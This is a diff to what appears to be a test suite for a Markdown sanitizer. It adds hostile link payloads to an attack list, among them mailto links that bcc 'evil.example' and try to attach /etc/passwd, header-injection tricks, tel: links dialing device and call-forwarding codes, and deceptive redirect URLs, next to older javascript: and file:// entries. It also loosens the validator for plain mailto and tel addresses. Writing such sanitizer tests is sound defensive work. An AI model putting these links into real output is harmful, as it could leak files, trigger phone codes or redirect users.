@@ -40,6 +40,12 @@ const ATTACKS = [
   `[x](&#x6A;avascript:${BAD})`,
   `[x](java\tscript:${BAD})`,
   `[x](vbscript:x)`,
+  `[x](mailto:a@b.example?bcc=c@evil.example&body=x&attach=/etc/passwd)`,
+  `[x](mailto:a@b.example%0d%0abcc:c@evil.example)`,
+  `<a href="mailto:a@b.example,c@evil.example">x</a>`,
+  `[x](tel:*%2306%23) [y](tel:**21*0900%23) [z](tel:+1;ext=2)`,
+  `[x](sms:+15550100?body=x) [y](facetime:a@b.example) [z](ms-word:ofe|u|${HOST}/x)`,
+  `[x](//evil.example@bank.example/) [y](/\\evil.example) [z](../../x)`,
   `[x](file:///etc/passwd)`,
   `[x]: javascript:${BAD}\n\n[x]`,
   `<javascript:${BAD}>`,
@@ -57,16 +63,20 @@ const ATTACKS = [
 const FORBIDDEN =
   'script,style,iframe,object,embed,form,button,textarea,select,link,base,meta,svg,math,video,audio,picture,source,img,citation-anchor,citation-block,[style],[id],[name],[class],[background],[srcset]';
 
+const WEB = /^https?:\/\/[^@/]+(?:\/|$)/;
+/** One person and nothing else: neither what to write nor whom to copy, and no code for a phone. */
+const ADDRESSEE = /^(?:mailto:[\w.+-]+@[a-z\d.-]+|tel:\+?\d+)$/i;
+
 /** What is wrong with an answer that is shown, if anything is. */
 function problems(root: HTMLElement): string[] {
   const found = Array.from(root.querySelectorAll(FORBIDDEN), ({ outerHTML }) => outerHTML);
   for (const element of root.querySelectorAll('*')) {
     for (const { name, value } of element.attributes) {
       if (name.startsWith('on')) found.push(name);
-      if (name === 'href' && !/^https?:\/\/[^@/]+(?:\/|$)/.test(value)) found.push(value);
+      if (name === 'href' && !WEB.test(value) && !ADDRESSEE.test(value)) found.push(value);
       if (name === 'src') found.push(value);
     }
-    if (element.matches('a[href]:not([rel="noopener noreferrer"][target="_blank"])')) {
+    if (element.matches('a[href^=http]:not([rel="noopener noreferrer"][target="_blank"])')) {
       found.push(element.outerHTML);
     }
     if (element.localName === 'input' && !element.matches('[type=checkbox][disabled]')) {
